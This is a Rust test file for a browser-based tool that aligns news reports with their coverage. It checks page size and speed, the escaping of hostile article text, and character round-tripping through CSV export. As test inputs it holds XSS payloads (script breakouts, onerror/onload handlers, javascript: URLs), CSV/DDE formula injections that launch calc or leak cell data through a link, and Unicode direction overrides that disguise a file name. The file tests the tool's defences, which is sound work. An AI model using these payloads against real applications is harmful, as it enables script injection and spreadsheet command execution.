use std::collections::BTreeMap;
use std::fs;

use cotejo::evaluate::gold::Gold;
use cotejo::lexicon::Role;
use cotejo::write::Format;
use cotejo::write::csv;
use serde_json::json;

use super::browser::Browser;
use super::{calm, open, stories};

#[test]
fn large_stories_are_small_and_quick() {
    let Some(mut browser) = Browser::start() else { return };
    browser.send("Performance.enable", &json!({"timeDomain": "threadTicks"}));
    let folder = tempfile::tempdir().expect("a folder");
    for (report, articles, each) in [(40, 20, 38), (40, 1, 400), (400, 2, 200)] {
        let page = stories::page(&stories::large(report, articles, each), folder.path());
        let bytes = fs::metadata(&page).expect("it is there").len();
        assert!(bytes <= 1_500_000, "{report} × {articles} × {each}: {bytes} bytes");
        let (mut clock, mut processor) = (f64::INFINITY, f64::INFINITY);
        for _ in 0..5 {
            browser.open(&page, "");
            let ready = browser.eval("performance.getEntriesByName('cotejo-ready')[0].startTime");
            clock = clock.min(ready.as_f64().expect("a time"));
            processor = processor.min(1000.0 * browser.metric("TaskDuration"));
        }
        eprintln!(
            "{report} paragraphs, {articles} articles of {each}: {bytes} bytes, interactive in {clock:.0} ms, of which the page \
             needs {processor:.0} ms"
        );
        // On a machine with other things to do, the clock tells of those; the time on the processor is the page's own.
        assert!(clock.min(processor) <= 300.0, "{report} × {articles} × {each}");
        browser.eval("document.querySelector('#c0 .par:last-of-type').click()");
        browser.key("n");
        browser.wait("document.querySelector('.par.now') !== null");
    }
    calm(&mut browser);
}

#[test]
fn a_hostile_article_stays_text() {
    let story = tempfile::tempdir().expect("a folder");
    let attack = "</script><script>document.title='owned'</script><!-- <img src=x onerror=\"document.title='owned'\"> \
        <svg onload=alert(1)> <a href=\"javascript:alert(1)\">x</a> <style>*{display:none}</style> ]]> &amp; &#x3c;b&#x3e;";
    let report = format!(
        "Título: El alcalde {attack}\nFecha: 2017-02-16\nFuente: \u{202e}El {attack}\nURL: javascript:alert(document.domain)\n\n\
         El alcalde de Cartagena, Ramón Cegarra, dijo el martes que {attack} y que pagará 400.000 euros al puerto.\n\n\
         =HYPERLINK(\"http://example.org/?\"&A1) dijo el alcalde a los periodistas de la ciudad el miércoles.\n\n\
         El \u{202e}gnp.exe\u{202c} del alcalde \u{2066}está\u{2069} en la mesa, dijo la policía de Cartagena \u{200f}ayer.\n"
    );
    let article = format!(
        "Title: {attack}\nDate: 2017-02-16\nSource: \u{2066}The {attack}\nURL: data:text/html,{attack}\n\n\
         The mayor of Cartagena, Ramón Cegarra, said on Tuesday that {attack} and that he will pay €400,000 to the port.\n\n\
         @SUM(1+1)*cmd|' /C calc'!A0 said the mayor to the reporters of the city on Wednesday.\n\n\
         The \u{202e}gnp.exe\u{202c} of the mayor \u{2066}is\u{2069} on the table, said the police of Cartagena \u{200f}yesterday.\n"
    );
    // A file may be called anything.
    let (spanish, english) = ("=es <img src=x onerror=alert(1)>.txt", "en\u{202e}'\"&lt;.txt");
    fs::write(story.path().join(spanish), report).expect("it can be written");
    fs::write(story.path().join(english), article).expect("it can be written");
    let roles: BTreeMap<String, Role> = [(spanish, Role::Report), (english, Role::Coverage)]
        .into_iter()
        .map(|(name, role)| (story.path().join(name).to_string_lossy().into_owned(), role))
        .collect();
    let alignment = stories::align(story.path(), &roles);
    let Some((mut browser, _, _folder)) = open(&alignment) else {
        return;
    };
    assert_eq!(browser.eval("document.scripts.length"), json!(3));
    assert_eq!(browser.eval("document.querySelectorAll('img, iframe, main style, main script, [onload], [onerror], a[href^=javascript], a[href^=data]').length"), json!(0));
    assert_ne!(browser.text("document.title"), "owned");
    // Every text is what the file says, character by character: the export tells.
    let exported = browser.download("#save-csv");
    assert_eq!(
        String::from_utf8_lossy(&exported),
        String::from_utf8_lossy(&stories::written(&alignment, Format::Csv))
    );
    // What turns the direction of text is seen, and turns nothing.
    assert_eq!(
        browser.eval("[...document.querySelectorAll('.ctl')].some((mark) => mark.textContent === 'RLO')"),
        json!(true)
    );
    assert_eq!(
        browser.eval("/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)"),
        json!(false)
    );
    // It stays so when marks are made, notes are read, and the texts are searched.
    browser.key("n");
    browser.eval("document.getElementById('always').click()");
    browser.key("/");
    browser.type_in("gnp.exe");
    browser.wait("document.getElementById('found').textContent.startsWith('1 of ')");
    assert_eq!(
        browser.eval("/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)"),
        json!(false)
    );
    // Nor in an attribute, an option or a title.
    let bare = "document.body.outerHTML.replace(document.getElementById('data').outerHTML, '') + document.title";
    assert_eq!(
        browser.eval(&format!("/[\\u202a-\\u202e\\u2066-\\u2069]/.test({bare})")),
        json!(false)
    );
    assert_eq!(
        browser.eval("document.querySelectorAll('img, main script').length"),
        json!(0)
    );
    browser.click("#query");
    browser.key("Escape");
    browser.key("n");
    browser.key("a");
    let corrected = browser.download("#save-csv");
    let rows = csv::read(corrected.as_slice(), true).expect("the tool reads it");
    let mut again = Vec::new();
    csv::write(&rows, true, &mut again).expect("memory takes it");
    assert_eq!(String::from_utf8_lossy(&again), String::from_utf8_lossy(&corrected));
    let gold = browser.download("#save-gold");
    let gold = Gold::read(gold.as_slice()).expect("the tool reads it");
    assert!(
        gold.target_files().all(|name| name == english),
        "{:?}",
        gold.target_files().collect::<Vec<_>>()
    );
    calm(&mut browser);
}

#[test]
fn characters_that_parsers_change_come_back() {
    let texts = [
        "\nA line end first.",
        "A carriage\r\nreturn,\ra tab\tand a form\u{c}feed.",
        "Zero \0, unit \u{1f}, next line \u{85}, delete \u{7f}, mark \u{feff}, joined \u{200d}.",
        "Paragraph \u{2029} and line \u{2028} separators, 😀 and e\u{301}, \u{fdd0} and \u{10ffff}.",
        "&amp; &#0; &lt;/script&gt; <![CDATA[ ]]> <?php ?> ${x} `",
        "'=1+1",
        "''-Hola",
        "=",
        "\u{a0}\u{2003}＝1",
        "\"quoted\", and\r",
        "—Hola",
        "#",
    ];
    let links: Vec<_> = (0..texts.len())
        .map(|place| ((0, place), (0, texts.len() - 1 - place), 0.123_45))
        .collect();
    let alignment = stories::told(&[&texts], &[&texts], &links);
    let Some((mut browser, _, _folder)) = open(&alignment) else {
        return;
    };
    let expected = stories::written(&alignment, Format::Csv);
    assert_eq!(
        String::from_utf8_lossy(&browser.download("#save-csv")),
        String::from_utf8_lossy(&expected)
    );
    // The same after every text was taken apart for marks.
    browser.click("#query");
    browser.type_in("e");
    browser.wait("document.getElementById('found').textContent.startsWith('1 of ')");
    assert_eq!(
        String::from_utf8_lossy(&browser.download("#save-csv")),
        String::from_utf8_lossy(&expected)
    );
    calm(&mut browser);
}
